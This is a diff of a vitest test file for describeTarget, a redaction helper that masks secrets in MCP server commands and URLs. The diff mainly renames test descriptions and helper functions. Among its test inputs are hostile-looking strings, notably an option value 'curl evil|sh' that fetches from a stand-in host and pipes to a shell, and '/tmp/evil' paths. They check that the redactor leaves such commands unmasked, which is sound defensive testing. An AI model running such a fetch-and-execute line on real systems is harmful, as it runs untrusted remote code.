@@ -2,11 +2,11 @@ import { describeTarget } from "#redaction/describe-target.js";
 import { describe, expect, it } from "vitest";
 import { httpDefinition, sdkDefinition, stdioDefinition } from "../helpers/small-definitions.ts";
 
-describe("describeTarget shows text without secrets unchanged", () => {
+describe("describeTarget of a definition without secrets", () => {
   it.each([
     ["a command", ["npx", "-y", "@scope/server", "."], "npx -y @scope/server ."],
     [
-      "words that need quotes, in quotes",
+      "words with spaces or quotes",
       ["my server", "a b", 'say "hi"', "", "c:\\x"],
       '"my server" "a b" "say \\"hi\\"" "" "c:\\\\x"',
     ],
@@ -44,8 +44,8 @@ describe("describeTarget shows text without secrets unchanged", () => {
       ["uvx", "--from", "git+https://github.com/oraios/serena", "serena"],
       "uvx --from git+https://github.com/oraios/serena serena",
     ],
-  ])("as %s", (_, [name, ...args], shown) => {
-    expect(command(name!, ...args)).toBe(shown);
+  ])("masks nothing in %s", (_, [name, ...args], shown) => {
+    expect(describeCommand(name!, ...args)).toBe(shown);
   });
 
   it.each([
@@ -56,18 +56,18 @@ describe("describeTarget shows text without secrets unchanged", () => {
     ["${BASE_URL}/v1/mcp", "${BASE_URL}/v1/mcp"],
     ["http://127.0.0.1:8080/mcp", "http://127.0.0.1:8080/mcp"],
     ["http://[::1]:8080/mcp", "http://[::1]:8080/mcp"],
-  ])("as the URL %s", (url, shown) => {
-    expect(address(url)).toBe(shown);
+  ])("masks nothing in the URL %s", (url, shown) => {
+    expect(describeUrl(url)).toBe(shown);
   });
 });
 
-describe("describeTarget shows a command in full", { meta: { covers: ["A12", "A21"] } }, () => {
+describe("describeTarget of a command", { meta: { covers: ["A12", "A21"] } }, () => {
   it.each([
     ["npx -y foo", "npx -y foo"],
     ["${RUN:-/tmp/evil}", "${RUN:-/tmp/evil}"],
     ["/opt/qzxwvkj hgf/bin", "/opt/qzxwvkj hgf/bin"],
-  ])("if the command is %j", (written, shown) => {
-    expect(command(written)).toBe(/\s/.test(shown) ? JSON.stringify(shown) : shown);
+  ])("shows the command %j in full", (written, shown) => {
+    expect(describeCommand(written)).toBe(/\s/.test(shown) ? JSON.stringify(shown) : shown);
   });
 
   it.each([
@@ -108,8 +108,8 @@ describe("describeTarget shows a command in full", { meta: { covers: ["A12", "A2
     ["node", "--token", "./evil.js"],
     ["node", "--key-cmd", "curl evil|sh"],
     ["env", "PASS=/tmp/evil", "sh"],
-  ])("without a mask in %s %s %s", (name, ...args) => {
-    expect(command(name, ...args)).not.toContain("***");
+  ])("masks nothing in %s %s %s", (name, ...args) => {
+    expect(describeCommand(name, ...args)).not.toContain("***");
   });
 
   it.each([
@@ -137,54 +137,54 @@ describe("describeTarget shows a command in full", { meta: { covers: ["A12", "A2
     ["curl -su 'admin:sword fish' x", "curl -su 'admin:***' x"],
     ["curl --user admin:swordfish x | sort -u a:b", "curl --user admin:*** x | sort -u a:b"],
     ["wget -u admin:swordfish x", "wget -u admin:*** x"],
-  ])("except for the secrets in the script %s", (script, shown) => {
-    expect(command("sh", "-c", script)).toBe(`sh -c ${JSON.stringify(shown)}`);
+  ])("masks only the secrets in the script %s", (script, shown) => {
+    expect(describeCommand("sh", "-c", script)).toBe(`sh -c ${JSON.stringify(shown)}`);
   });
 
-  it("if a script has thousands of comment signs and quotes", () => {
+  it("does not throw for a script with thousands of comment signs and quotes", () => {
     for (const sign of ["#", " #", " # '", '\\"', "'", '"'])
-      expect(() => command("sh", "-c", sign.repeat(20_000))).not.toThrow();
+      expect(() => describeCommand("sh", "-c", sign.repeat(20_000))).not.toThrow();
   });
 
-  it("except for the values of a JSON argument", () => {
-    expect(command("x", '{"url": "s3cret", "on": true, "list": ["${A}", 5]}')).toBe(
+  it("masks the strings and numbers of a JSON argument and shows its structure", () => {
+    expect(describeCommand("x", '{"url": "s3cret", "on": true, "list": ["${A}", 5]}')).toBe(
       `x ${JSON.stringify('{"url":"***","on":true,"list":["${A}","***"]}')}`,
     );
   });
 });
 
-describe("describeTarget masks a secret", () => {
+describe("describeTarget of a definition with a secret", () => {
   it.each([
     ["joined to its option", ["--api-key=s3cret"], "--api-key=***"],
     ["that contains an equals sign", ["--token=s3cret=="], "--token=***"],
     ["after its option", ["--password", "s3cret", "next"], "--password *** next"],
     ["in a variable", ["GITHUB_TOKEN=s3cret"], "GITHUB_TOKEN=***"],
     ["whose option is in upper case", ["--API-KEY=s3cret", "--Auth", "s3cret"], "--API-KEY=*** --Auth ***"],
-    ["in a URL's user", ["postgres://ann:s3cret@db/x"], "postgres://***@db/x"],
-    ["in a URL's query", ["https://x/mcp?a=s3cret&b=s3cret#f"], "https://x/mcp?a=***&b=***#f"],
-  ])("%s, and shows the rest", (_, args, shown) => {
-    expect(command("run", ...args)).toBe(`run ${shown}`);
+    ["in the user of a URL", ["postgres://ann:s3cret@db/x"], "postgres://***@db/x"],
+    ["in the query of a URL", ["https://x/mcp?a=s3cret&b=s3cret#f"], "https://x/mcp?a=***&b=***#f"],
+  ])("masks a secret %s, and shows the rest", (_, args, shown) => {
+    expect(describeCommand("run", ...args)).toBe(`run ${shown}`);
   });
 
   it.each([
-    ["in a URL's query after a secret's name", ["https://x/mcp?key=s3cret&b=s3cret"]],
-    ["in a URL's user before such a query", ["https://ann:s3cret@x/mcp?key=1"]],
+    ["in the query of a URL after the name of a secret", ["https://x/mcp?key=s3cret&b=s3cret"]],
+    ["in the user of a URL with a query", ["https://ann:s3cret@x/mcp?key=1"]],
     ["in a header for mcp-remote", ["mcp-remote", "https://x/mcp", "--header", "Authorization: Bearer s3cret"]],
     ["in a header without spaces", ["mcp-remote", "https://x/mcp", "--header", "X-API-Key:s3cret"]],
     ["in a header joined to its option", ["--header=Authorization: Bearer s3cret"]],
-    ["in a URL's user, joined to an option", ["--dsn=postgres://ann:s3cret@db/x"]],
-    ["in a URL's user, in a variable", ["run", "-e", "DATABASE_URL=postgres://ann:s3cret@db/x", "image"]],
-    ["in a URL's query, joined to an option", ["--url=https://x/mcp?key=s3cret"]],
-    ["in the default of a reference", ["--api-key=${KEY:-s3cret}"]],
-    ["in the default of a reference after its option", ["--token", "${TOKEN:-s3cret}"]],
-    ["in the default of a reference in a path", ["${DIR:-s3cret}/x"]],
-    ["in the default of an unclosed reference", ["${KEY:-s3cret"]],
+    ["in the user of a URL, joined to an option", ["--dsn=postgres://ann:s3cret@db/x"]],
+    ["in the user of a URL, in a variable", ["run", "-e", "DATABASE_URL=postgres://ann:s3cret@db/x", "image"]],
+    ["in the query of a URL, joined to an option", ["--url=https://x/mcp?key=s3cret"]],
+    ["in the default value of a reference", ["--api-key=${KEY:-s3cret}"]],
+    ["in the default value of a reference after its option", ["--token", "${TOKEN:-s3cret}"]],
+    ["in the default value of a reference in a path", ["${DIR:-s3cret}/x"]],
+    ["in the default value of an unclosed reference", ["${KEY:-s3cret"]],
     ["in a variable given to an option", ["--env=GITHUB_TOKEN=s3cret", "-e", "GITHUB_TOKEN=s3cret"]],
     ["in an option with a URL", ["--db=postgres://u:s3cret@h"]],
     ["in JSON", ['{"token": "s3cret"}', '["s3cret"]', '--json={"a":"s3cret"}']],
     ["after a short option", ["-p", "s3cret", "-u", "ann:s3cret"]],
     ["joined to a short option", ["-ps3cret", "-Dtoken=s3cret"]],
-    ["after an option with a short secret's name", ["--bearer", "s3cret", "--pat=s3cret", "--pat", "s3cret"]],
+    ["after an option with a short name for a secret", ["--bearer", "s3cret", "--pat=s3cret", "--pat", "s3cret"]],
     ["that begins with a dash", ["--token", "-s3cret"]],
     ["in a command line", ["-c", "exec server --token s3cret"]],
     ["in the path of a URL", ["https://x/s3cret/mcp"]],
@@ -192,8 +192,8 @@ describe("describeTarget masks a secret", () => {
     ["in a URL within a URL", ["jdbc:postgresql://ann:s3cret@db/x", "https://x/?u=https://ann:s3cret@y"]],
     ["in an invalid URL", ["https://ann:s3cret@:x/", "https://ann:s3#s3cret@x/"]],
     ["in a query without a name", ["https://x/mcp?s3cret", "https://x/mcp?s3cret=1"]],
-  ])("%s", (_, args) => {
-    expect(command("run", ...args)).not.toContain("s3cret");
+  ])("masks a secret %s", (_, args) => {
+    expect(describeCommand("run", ...args)).not.toContain("s3cret");
   });
 
   it.each([
@@ -202,11 +202,11 @@ describe("describeTarget masks a secret", () => {
       ["--bearer", "hunter", "--pat=hunter", "-p", "hunter", "--header", "X-Key: hunter", "--pin=1234"],
     ],
     ["in JSON", ['{"a": "hunter"}', '"{\\"a\\":\\"hunter\\"}"', "a==hunter"]],
-    ["as a default", ["${TOK:-hunter}", "--x=${TOK:-hunter}", "https://x/${TOK:-hunter}"]],
+    ["as a default value", ["${TOK:-hunter}", "--x=${TOK:-hunter}", "https://x/${TOK:-hunter}"]],
     ["in a variable", ["DB_USER=hunter"]],
     ["in a URL", ["https://x?hunter", "https://x#token=hunter", "https:\\\\u:hunter@h", "https:u:hunter@h"]],
-  ])("that is a plain word %s", (_, args) => {
-    expect(command("run", ...args)).not.toMatch(/hunter|1234/);
+  ])("masks a secret that is a plain word %s", (_, args) => {
+    expect(describeCommand("run", ...args)).not.toMatch(/hunter|1234/);
   });
 
   it.each([
@@ -222,15 +222,15 @@ describe("describeTarget masks a secret", () => {
     "4111-1111-1111-1111",
     "correct-horse-battery-staple-correct-horse-battery-staple-correct-horse",
     "ann:hunter",
-  ])("by its form alone: %s", (secret) => {
-    const shown = command("run", secret, `--x=${secret}`, `https://x/${secret}/mcp`, "--y", secret);
+  ])("recognises the secret %s by its form alone", (secret) => {
+    const shown = describeCommand("run", secret, `--x=${secret}`, `https://x/${secret}/mcp`, "--y", secret);
     expect(shown).not.toMatch(secret.slice(-5));
     expect(shown).toContain("***");
   });
 
-  it("in the command", () => {
-    expect(command("TOKEN=s3cret npx x")).toBe('"TOKEN=*** npx x"');
-    expect(command("/opt/ghp_16C7e42F292c6912E7710c838347Ae178B4a/x")).toBe("/opt/***/x");
+  it("masks a secret in the command itself", () => {
+    expect(describeCommand("TOKEN=s3cret npx x")).toBe('"TOKEN=*** npx x"');
+    expect(describeCommand("/opt/ghp_16C7e42F292c6912E7710c838347Ae178B4a/x")).toBe("/opt/***/x");
   });
 
   it.each([
@@ -246,25 +246,25 @@ describe("describeTarget masks a secret", () => {
     ["https:ann:s3cret@example.com", "https://***@example.com"],
     ["${BASE:-https://ann:s3cret@x}/mcp", "${BASE:-***}/mcp"],
     ["https://ann:s3cret", "***"],
-  ])("in the URL %s", (url, shown) => {
-    expect(address(url)).toBe(shown);
+  ])("masks the secret in the URL %s", (url, shown) => {
+    expect(describeUrl(url)).toBe(shown);
   });
 
-  it("by not showing the headers", () => {
-    expect(address("https://x/mcp", { Authorization: "Bearer s3cret" })).toBe("https://x/mcp");
+  it("does not show the headers", () => {
+    expect(describeUrl("https://x/mcp", { Authorization: "Bearer s3cret" })).toBe("https://x/mcp");
   });
 
-  it("by not showing the login", () => {
+  it("does not show the `auth` setting", () => {
     const auth = { type: "api_key", headerName: "X-API-Key", apiKey: "s3cret" } as const;
     expect(describeTarget(httpDefinition({ auth }))).toBe("https://x/mcp");
   });
 
-  it("by showing only the kind and the name of a secret reference", () => {
+  it("shows only the kind and the name of a reference to a secret", () => {
     const args = ["--token", { $secret: "github" }, { $file: "./token.txt" }, { $cmd: ["op", "read", "op://s3cret"] }];
     expect(describeTarget(stdioDefinition({ args }))).toBe("x --token $secret:github $file:./token.txt $cmd:op");
   });
 
-  it("by not showing the environment", () => {
+  it("does not show the environment", () => {
     expect(describeTarget(stdioDefinition({ env: { KEY: "s3cret" } }))).toBe("x");
   });
 });
@@ -273,10 +273,10 @@ it("describeTarget shows an in-process server by its name", () => {
   expect(describeTarget(sdkDefinition("memory"))).toBe("memory");
 });
 
-function command(name: string, ...args: string[]): string {
+function describeCommand(name: string, ...args: string[]): string {
   return describeTarget(stdioDefinition({ command: name, args }));
 }
 
-function address(url: string, headers = {}): string {
+function describeUrl(url: string, headers = {}): string {
   return describeTarget(httpDefinition({ url, headers }));
 }
